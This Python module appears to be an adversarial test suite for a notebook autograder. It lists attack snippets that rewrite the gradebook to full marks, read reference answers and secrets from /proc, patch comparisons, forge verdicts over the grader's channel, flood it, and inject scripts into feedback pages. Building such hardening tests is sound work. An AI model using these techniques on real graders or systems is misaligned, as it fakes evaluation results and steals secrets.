"""Attacks on the verdict: reach the gradebook, the answers or the judge, or make what is compared lie."""

from hostile.kinds import Attack, answer, cell, nothing, wrong

UPDATE = """
    import os, sqlite3
    for path in {paths}:
        if os.path.exists(path):
            print("LEAKED:", path)
            with sqlite3.connect(path) as gradebook:
                gradebook.execute("UPDATE grade SET auto_score = 100, manual_score = 100, needs_manual_grade = 0")
"""
READ_SOURCE = """
    import glob, json
    for path in glob.glob("../../../source/**/*.ipynb", recursive=True) + glob.glob("../source/**/*.ipynb"):
        print("LEAKED:", path)
        for cell in json.load(open(path))["cells"]:
            if cell["cell_type"] == "code":
                exec("".join(cell["source"]))
"""
ALWAYS_EQUAL = """
    import torch
    class Yes(int):
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __bool__(self): return True
        def __getattr__(self, name): return self
        def __call__(self, *arguments, **named): return self
        __hash__ = int.__hash__
    def causal_mask(query, key):
        return Yes(1)
"""
TENSOR_SUBCLASS = """
    import torch
    class Yes(torch.Tensor):
        @classmethod
        def __torch_function__(cls, function, types, args=(), kwargs=None):
            return torch.tensor(True)
        def __eq__(self, other): return True
        __hash__ = torch.Tensor.__hash__
    def causal_mask(query, key):
        return torch.zeros(query, key).as_subclass(Yes)
"""
# Frames from the cell or the answer up to the engine's own loop, with what it talks over.
DIG = """
    import sys
    frame, channel, engine, request = sys._getframe(), None, {}, None
    while frame is not None:
        if "channel" in frame.f_locals:
            channel, engine = frame.f_locals["channel"], frame.f_globals
        request = frame.f_locals.get("request", request)
        frame = frame.f_back
"""
SAY = "    pack, end = engine['pack'], channel.end\n"
GOOD_REPLY = """
    import numpy
    reply = {"outputs": {}, "after": {}, "error": None, "message": "", "line": "", "called": []}
    reply["outputs"] = {key: True for key in ("mask", "weights", "output", "scores", "heads", "x", "result")}
"""

ATTACKS: dict[str, Attack] = {
    "gradebook-by-relative-path": cell(
        UPDATE.format(paths=["gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db"])
    ),
    "gradebook-by-absolute-path": cell(
        UPDATE.format(paths="[«COURSE» + '/gradebook.db', '/proc/1/root' + «COURSE» + '/gradebook.db']")
    ),
    "source-by-relative-path": cell(READ_SOURCE),
    "source-by-absolute-path": cell(READ_SOURCE.replace('"../source/**/*.ipynb"', "«COURSE» + '/source/*/*.ipynb'")),
    "secret-of-the-course": cell(
        """
        import os
        for path in («COURSE» + "/.course_secret", ".course_secret", "../../../.course_secret"):
            if os.path.exists(path):
                print("LEAKED:", open(path).read())
        """
    ),
    "another-students-answers": cell(
        """
        import glob, json
        for path in glob.glob(«COURSE» + "/submitted/*/*/*.ipynb") + glob.glob("../../*/attention/*.ipynb"):
            print("LEAKED:", path)
            for cell in json.load(open(path))["cells"]:
                if cell["cell_type"] == "code":
                    exec("".join(cell["source"]))
        """
    ),
    "imports-the-reference": cell(
        """
        import importlib
        for name in ("ml_course.attention", "ml_course.multi_head", "autograder.exercises.attention",
                     "autograder.exercises", "autograder.judging", "autograder.seeds"):
            try:
                module = importlib.import_module(name)
                print("LEAKED:", name, module)
            except ImportError:
                pass
        """
    ),
    "looks-for-the-reference-on-disk": cell(
        """
        import os, sys
        here = [os.path.join(folder, name) for top in ["/course", *sys.path, sys.prefix] for folder, _, names
                in os.walk(top) for name in names if "torch" not in folder]
        for path in here:
            if "/autograder/" in path or "ml_course/attention" in path or "/exercises/attention" in path:
                print("LEAKED:", path)
        """
    ),
    "walks-memory-for-the-reference": cell(
        """
        import gc, sys, types
        gc.unfreeze()
        known = {type(thing).__name__ for thing in gc.get_objects()}
        print("LEAKED: exercises" if known & {"Exercise", "Verdict", "Mistake"} else "")
        for thing in gc.get_objects():
            if isinstance(thing, types.ModuleType) and thing.__name__.startswith("autograder.exercises"):
                print("LEAKED:", thing)
            if isinstance(thing, types.FunctionType) and (thing.__module__ or "").startswith("ml_course.attention"):
                print("LEAKED:", thing)
        """
    ),
    "looks-for-secrets-in-the-environment": cell(
        """
        import glob, os
        told = dict(os.environ)
        for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
            try:
                told[path] = open(path, "rb").read().decode("utf-8", "replace")
            except OSError:
                pass
        for name, value in told.items():
            if any(word in f"{name}={value}" for word in ("SECRET", "TOKEN", "PASSWORD", «COURSE»)):
                print("LEAKED:", name)
        """
    ),
    "an-int-that-equals-everything": answer(ALWAYS_EQUAL),
    "a-tensor-that-equals-everything": answer(TENSOR_SUBCLASS),
    "drops-asserts-from-the-tree": cell(
        """
        import ast
        class NoAssert(ast.NodeTransformer):
            def visit_Assert(self, node): return ast.Pass()
            def visit_Call(self, node): return ast.Constant(100.0)
        get_ipython().ast_transformers.append(NoAssert())
        """,
        wrong,
    ),
    "display-hook-prints-full-marks": cell(
        """
        import sys
        shell = get_ipython()
        shell.displayhook.compute_format_data = lambda result: ({"text/plain": "100.0"}, {})
        sys.displayhook = lambda value: print(100.0)
        shell.display_formatter.format = lambda *_, **__: ({"text/plain": "100.0"}, {})
        """,
        wrong,
    ),
    "check-replaced-by-full-marks": cell("def check(name, answer):\n    return 100.0", wrong),
    "check-replaced-in-its-module": cell(
        "import autograder\nautograder.check = lambda *_: 100.0\nautograder.points = 100", wrong
    ),
    "patched-comparisons": cell(
        """
        import builtins, math, numpy, torch
        yes = lambda *_, **__: True
        for module, names in ((torch, "allclose equal isclose"), (numpy, "allclose array_equal isclose"),
                              (numpy.testing, "assert_allclose assert_equal assert_array_equal"),
                              (torch.testing, "assert_close"), (math, "isclose")):
            for name in names.split():
                setattr(module, name, yes)
        torch.Tensor.__eq__ = torch.Tensor.allclose = torch.Tensor.equal = yes
        """,
        wrong,
    ),
    "patched-torch-for-the-probe": cell(
        """
        import numpy, torch
        zero = torch.zeros((), requires_grad=True)
        torch.from_numpy = torch.tensor = torch.as_tensor = lambda *_, **__: zero
        torch.autograd.grad = lambda *_, **__: (zero, zero, zero, zero, zero, zero)
        torch.Tensor.detach = torch.Tensor.numpy = torch.Tensor.backward = lambda self, *_, **__: self
        numpy.array = numpy.asarray = lambda value, *_, **__: value
        """,
        wrong,
    ),
    "patched-builtins": cell(
        """
        import builtins
        builtins.isinstance = builtins.all = builtins.any = builtins.callable = lambda *_: True
        builtins.len = builtins.sum = lambda *_: 1
        builtins.type = lambda *_: int
        """,
        wrong,
    ),
    "patched-modules-of-the-session": cell(
        """
        import json, os, select, socket, struct
        json.dumps = lambda *_, **__: '{"replies": []}'
        struct.pack = lambda *_: b"\\0\\0\\0\\0"
        os.read = lambda *_: b"100"
        os.fork = lambda: 1
        select.select = lambda *_: ([], [], [])
        """,
        wrong,
    ),
    "patched-engine-functions": cell(
        DIG
        + """
    for name, module in [(key, engine) for key in list(engine)]:
        if callable(module[name]) and name in ("observe", "collect", "ask", "as_dict", "answer_in_fork", "deadline"):
            old = module[name]
            module[name] = lambda *_, **__: b"full marks"
    import gc, types
    gc.unfreeze()
    for thing in gc.get_objects():
        if type(thing) is dict and str(thing.get("__name__", "")).startswith("autograder"):
            for name in ("plain", "watching", "award", "judge", "difference", "same"):
                if name in thing:
                    thing[name] = lambda *_, **__: None
        """,
        wrong,
    ),
    "silenced-watch-and-no-answer": cell(
        DIG + "    engine['observe'].__globals__['watching'] = lambda *_: __import__('contextlib').nullcontext()\n"
    ),
    "forged-verdicts": cell(
        DIG
        + SAY
        + """
    verdict = {"points": 100, "max_points": 1, "passed": True, "verdict": "all right", "replies": [], "facets": []}
    for _ in range(20):
        channel.send(pack({**verdict, "stdout": "", "stderr": "", "value": "100.0", "error": "", "shown": []}))
        """
    ),
    "forged-replies-ahead": cell(
        DIG
        + SAY
        + GOOD_REPLY
        + """
    for count in range(1, 40):
        channel.send(pack({"replies": [reply] * count, "stdout": "", "stderr": "", "value": "", "error": "",
                           "shown": []}))
        """
    ),
    "forged-reply-from-the-answer": answer(
        "def causal_mask(query, key):\n" + DIG + SAY + GOOD_REPLY + "    channel.send(pack({'replies': [reply] * "
        "len(request['questions'])}))\n    raise SystemExit"
    ),
    "an-answer-that-patches-torch-for-the-next": answer(
        """
        def causal_mask(query, key):
            import torch
            torch.softmax = torch.einsum = torch.Tensor.__matmul__ = torch.Tensor.softmax = None
        """
    ),
    "an-answer-that-changes-settings-for-the-next": answer(
        """
        def causal_mask(query, key):
            import os, sys, torch
            torch.set_default_dtype(torch.float64)
            torch.set_grad_enabled(False)
            sys.setrecursionlimit(60)
            os.environ.clear()
        """
    ),
    "an-answer-that-undefines-the-others": answer(
        """
        def causal_mask(query, key):
            for name in [name for name in globals() if name[:1] != "_"]:
                del globals()[name]
        """
    ),
    "an-answer-that-says-it-left-no-trace": answer(
        """
        def causal_mask(query, key):
            import gc
            for thing in gc.get_objects():
                if isinstance(thing, type) and thing.__name__ == "Snapshot":
                    thing.unchanged = lambda self: True
        """
    ),
    "forged-reply-into-the-pipe": answer(
        "def causal_mask(query, key):\n"
        + DIG
        + SAY
        + GOOD_REPLY
        + """
    import os
    text = pack({"replies": [reply] * len(request["questions"])})
    for handle in range(3, 64):
        try:
            os.write(handle, text)
        except OSError:
            pass
    os._exit(0)
        """
    ),
    "forged-messages-of-wrong-form": cell(
        DIG
        + SAY
        + """
    for told in ({}, {"replies": 5}, {"replies": [5]}, {"replies": [{"outputs": []}]}, {"stdout": 5, "shown": "x"},
                 {"stdout": "", "stderr": "", "value": "", "error": "", "shown": [5, {"text/html": 7}]}):
        channel.send(pack(told))
    channel.send(b"")
    channel.send(b"no safetensors at all")
        """
    ),
    "forged-huge-length": cell(DIG + SAY + "    end.sendall(b'\\xff' * 4 + b'x' * 100)\n"),
    "forged-half-message": cell(
        DIG + SAY + "    end.sendall(b'\\xff\\xff\\0\\0' + b'x' * 100)\n    while True: pass\n"
    ),
    "forged-trickle": cell(
        DIG
        + SAY
        + """
    import time
    end.sendall((2**20).to_bytes(4, "little"))
    while True:
        end.sendall(b"x")
        time.sleep(0.05)
        """
    ),
    "forged-millions-of-values": cell(
        DIG
        + SAY
        + """
    import json, struct
    nodes = json.dumps({"replies": {"list": [{"scalar": 1}] * 2_500_000}})
    header = json.dumps({"__metadata__": {"outline": nodes}}).encode()
    channel.send(struct.pack("<Q", len(header)) + header)
        """
    ),
    "forged-endless-names": answer(
        "def causal_mask(query, key):\n"
        + DIG
        + SAY
        + GOOD_REPLY
        + """
    reply["called"] = ["x" * 100] * 50_000
    reply["error"], reply["message"], reply["line"] = "E" * 10_000_000, "m" * 10_000_000, "l" * 1_000_000
    channel.send(pack({"replies": [reply] * len(request["questions"])}))
        """
    ),
    "forged-pages-for-the-feedback": cell(
        DIG
        + SAY
        + """
    script = "<script>SCRIPTED</script>"
    shown = [{"text/html": script, "application/javascript": "alert(1)", "image/svg+xml": "<svg onload='x'/>",
              "image/png": "x\\"><script>SCRIPTED</script>", "text/latex": script, "text/markdown": script}]
    channel.send(pack({"stdout": script, "stderr": script, "value": script, "error": f"{script}: {script}",
                       "shown": shown}))
        """
    ),
    "garbage-into-every-file": cell(
        """
        import os
        for handle in range(64):
            try:
                os.write(handle, os.urandom(4096))
            except OSError:
                pass
        """
    ),
    "frames-for-what-is-expected": answer(
        """
        def causal_mask(query, key):
            import sys
            frame = sys._getframe(1)
            while frame is not None:
                for name, value in {**frame.f_globals, **frame.f_locals}.items():
                    if name in ("expected", "want", "reference", "expected_replies", "exercise", "case", "secret"):
                        return value
                frame = frame.f_back
        """
    ),
    "trace-and-profile": cell(
        """
        import sys, threading
        def tracer(frame, event, argument):
            for name, value in frame.f_locals.items():
                if name in ("want", "expected", "verdict"):
                    print("LEAKED:", value)
            return tracer
        sys.settrace(tracer)
        threading.settrace(tracer)
        sys.setprofile(tracer)
        """,
        wrong,
    ),
    "detects-being-graded": cell(
        """
        import os, sys
        if not hasattr(sys.modules.get("autograder"), "judging"):
            print("graded: so behave")
            get_ipython().user_ns["full_marks"] = 100.0
            raise SystemExit("100.0")
        """
    ),
    "replaced-shell": cell(
        """
        shell = get_ipython()
        type(shell).run_cell = lambda *_, **__: 100.0
        shell.run_cell = lambda *_, **__: 100.0
        shell.user_ns = {}
        """,
        wrong,
    ),
    "callable-by-decree": answer(
        """
        class Everything(type):
            def __getattribute__(cls, name): return lambda *_, **__: cls
            def __instancecheck__(cls, instance): return True
            def __call__(cls, *_, **__): return cls
            def __iter__(cls): return iter([("mask", True)])
        class causal_mask(metaclass=Everything):
            pass
        """
    ),
    "forbidden-call": answer(
        """
        def stable_softmax(scores, dim=-1):
            import torch
            weights = torch.softmax(scores, dim)
            return torch.nan_to_num(weights, 0.0)
        """,
        "stable_softmax",
    ),
    "nothing-at-all": cell("", nothing),
}
